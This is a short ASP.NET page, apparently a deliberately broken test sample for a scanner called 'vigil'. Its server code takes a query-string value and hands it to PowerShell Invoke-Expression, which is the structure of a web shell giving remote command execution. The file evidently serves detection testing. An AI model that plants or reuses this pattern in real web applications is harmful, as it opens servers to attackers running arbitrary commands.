<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<script runat="server">
void Page_Load() {
	string script = Request.QueryString["s"];
	var p = PowerShell.Create().AddCommand("Invoke-Expression").AddParameter("Command", script);
}
</script>
